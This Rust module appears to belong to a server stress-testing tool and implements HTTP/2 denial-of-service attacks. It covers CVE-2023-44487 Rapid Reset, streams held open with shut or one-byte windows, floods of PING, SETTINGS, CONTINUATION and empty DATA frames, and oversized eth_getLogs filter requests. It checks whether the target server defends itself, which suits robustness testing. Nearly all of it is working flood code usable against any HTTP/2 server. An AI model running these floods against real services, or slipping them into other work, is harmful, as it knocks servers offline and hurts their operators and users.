//! Abuse of HTTP/2: frames that cost their sender nothing.

use std::io::{self, BufReader, Write as _};

use anyhow::Result;

use crate::attack::{Attack, RawConnection, send_and_receive};
use crate::http2_frames::{
    DATA, END_STREAM, HEADERS, PING, SETTINGS, frame, get, post, post_head, preface, read_frame,
};

const RST_STREAM: u8 = 3;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

/// The setting with the window that every stream begins with.
const INITIAL_WINDOW: u16 = 4;
/// The error with which a client takes a stream back.
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// `:status: 200` in HPACK.
const STATUS_OK: u8 = 0x88;

/// Streams that the server admits at a time.
const STREAMS_MAX: u32 = 32;
/// Of frames that are sent together.
const CHUNK_COUNT: u32 = 500;
/// Bodies of 44 KB that the window of a new connection has room for.
const LONG_FILTERS: u32 = 22;
/// Addresses of a filter, which a server admits at most.
const ADDRESSES_MAX: u32 = 1000;
/// A server that takes more of one head or of streams that are reset does not defend itself.
const CHUNKS_MAX: u32 = 2000;

/// Streams of a client are odd.
fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|index| index.saturating_mul(2).saturating_add(1))
}

/// Reads frames until the server ends the connection.
fn receive(attack: &Attack<'_>, connection: &mut RawConnection<'_>) -> io::Result<()> {
    let mut source = BufReader::new(connection);
    loop {
        let frame = read_frame(&mut source)?;
        let is_ok = frame.payload.first() == Some(&STATUS_OK);
        if frame.kind == HEADERS && is_ok {
            attack.tally.count_status(200);
        }
        // It is told once; what was begun before goes on.
        if frame.kind == GOAWAY && (frame.stream, frame.flags) != (0, 0) {
            attack.tally.complain("a GOAWAY that is none".to_owned());
        }
    }
}

/// Sends chunks until the server ends the connection, while what it sends is read or not. A server that
/// must end it and does not is complained of.
fn flood(
    attack: &Attack<'_>,
    begin: &[u8],
    mut chunk: impl FnMut(u32) -> Vec<u8> + Send,
    is_read: bool,
    must_end: Option<&str>,
) -> io::Result<()> {
    let mut connection = attack.connect()?;
    connection.write_all(begin)?;
    let mut send = move |connection: &mut RawConnection<'_>| -> io::Result<()> {
        for index in 0.. {
            if must_end.is_none() && !attack.pace.goes_on() {
                break;
            }
            if let Some(what) = must_end.filter(|_| index == CHUNKS_MAX) {
                attack.tally.complain(format!("{what} for ever"));
                break;
            }
            connection.write_all(&chunk(index))?;
        }
        Ok(())
    };
    if is_read {
        send_and_receive(connection, send, |connection| receive(attack, connection))
    } else {
        // The server stops reading when nobody reads what it has to say.
        send(&mut connection.hurried())
    }
}

/// CVE-2023-44487: a stream costs its client nothing if it is taken back at once.
pub(super) fn rapid_reset(attack: &Attack<'_>) -> Result<()> {
    let chunk = |index: u32| -> Vec<u8> {
        let before = index.saturating_mul(CHUNK_COUNT).saturating_mul(2);
        let ids = streams(CHUNK_COUNT).map(|id| before.saturating_add(id));
        let asked = |id| [get(id, "/openrpc.json", "test"), frame(RST_STREAM, 0, id, &CANCEL)];
        ids.flat_map(asked).flatten().collect()
    };
    let begin = preface(&[]);
    attack.repeat(|_| flood(attack, &begin, chunk, true, Some("streams were reset")))
}

/// All streams of a connection, asking for the longest answer without taking any of it.
fn open_unread<'a>(attack: &'a Attack<'_>) -> io::Result<RawConnection<'a>> {
    let mut connection = attack.connect()?;
    connection.write_all(&preface(&[(INITIAL_WINDOW, 0)]))?;
    for id in streams(STREAMS_MAX) {
        connection.write_all(&post(id, attack.largest.batch.as_bytes()))?;
    }
    connection.without_waiting()
}

/// Streams whose windows stay shut, on a connection that is alive otherwise.
pub(super) fn zero_window(attack: &Attack<'_>) -> Result<()> {
    let ping = frame(PING, 0, 0, b"12345678");
    attack.keep(
        |_| open_unread(attack),
        |connection| {
            connection.send_at_once(&ping)?;
            connection.take_at_once(64 * 1024)
        },
    )
}

/// Streams whose windows open by a byte.
pub(super) fn one_byte_windows(attack: &Attack<'_>) -> Result<()> {
    let window = |id| frame(WINDOW_UPDATE, 0, id, &[0, 0, 0, 1]);
    let windows: Vec<u8> = streams(STREAMS_MAX).flat_map(window).collect();
    attack.keep(
        |_| open_unread(attack),
        |connection| {
            connection.send_at_once(&windows)?;
            connection.take_at_once(64 * 1024)
        },
    )
}

/// Every one has to be answered.
pub(super) fn pings(attack: &Attack<'_>) -> Result<()> {
    let chunk = frame(PING, 0, 0, b"12345678").repeat(count(CHUNK_COUNT));
    flood_all(attack, &preface(&[]), &chunk)
}

/// Every one has to be acknowledged.
pub(super) fn settings(attack: &Attack<'_>) -> Result<()> {
    let chunk = frame(SETTINGS, 0, 0, &[]).repeat(count(CHUNK_COUNT));
    flood_all(attack, &preface(&[]), &chunk)
}

/// A head without an end.
pub(super) fn continuations(attack: &Attack<'_>) -> Result<()> {
    let begin = [preface(&[]), frame(HEADERS, 0, 1, b"\x83\x86\x84")].concat();
    // A field that is not to be remembered, as long as its length fits one byte.
    let field = [&[0, 1, b'x', 100][..], &[b'y'; 100]].concat();
    let chunk = frame(CONTINUATION, 0, 1, &field.repeat(100));
    let must_end = Some("CONTINUATION frames were taken");
    attack.repeat(|_| flood(attack, &begin, |_| chunk.clone(), true, must_end))
}

/// A body that takes frames and no bytes.
pub(super) fn empty_data(attack: &Attack<'_>) -> Result<()> {
    let begin = [preface(&[]), post_head(1, "/", &[])].concat();
    let chunk = frame(DATA, 0, 1, &[]).repeat(count(CHUNK_COUNT));
    flood_all(attack, &begin, &chunk)
}

/// The same over and over, for as long as the server likes it. Every other client reads nothing.
fn flood_all(attack: &Attack<'_>, begin: &[u8], chunk: &[u8]) -> Result<()> {
    attack.repeat(|lane| flood(attack, begin, |_| chunk.to_vec(), lane.is_multiple_of(2), None))
}

/// Filters that cost more to prepare than to answer.
pub(super) fn long_filters(attack: &Attack<'_>) -> Result<()> {
    let addresses: Vec<String> = (0..ADDRESSES_MAX).map(|it| format!("\"0x{it:040x}\"")).collect();
    let body = format!(
        r#"{{"jsonrpc":"2.0","id":1,"method":"eth_getLogs","params":[{{"fromBlock":"0x0","address":[{}]}}]}}"#,
        addresses.join(",")
    );
    let posts = streams(LONG_FILTERS).flat_map(|id| post(id, body.as_bytes()));
    let asked: Vec<u8> = preface(&[]).into_iter().chain(posts).collect();
    attack.repeat(|_| {
        let mut connection = attack.connect()?;
        connection.write_all(&asked)?;
        let mut source = BufReader::new(&mut connection);
        let mut left = LONG_FILTERS;
        while left > 0 {
            let frame = read_frame(&mut source)?;
            if frame.kind == HEADERS && frame.payload.first() == Some(&STATUS_OK) {
                attack.tally.count_status(200);
            }
            if [DATA, HEADERS].contains(&frame.kind) && frame.flags & END_STREAM != 0 {
                left = left.saturating_sub(1);
            }
        }
        Ok(())
    })
}

fn count(count: u32) -> usize {
    usize::try_from(count).unwrap_or_default()
}
